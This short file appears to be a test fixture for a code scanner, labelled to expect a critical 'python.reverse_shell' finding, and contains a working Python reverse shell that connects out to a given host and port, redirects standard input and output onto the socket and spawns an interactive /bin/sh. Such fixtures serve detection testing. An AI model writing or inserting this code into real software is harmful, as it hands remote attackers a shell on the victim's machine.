# expect: python.reverse_shell critical
# note: the same reverse shell over several lines, subprocess instead of pty
# path: app/reverse_shell_lines.py
import socket, os, subprocess
def connect_back(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])
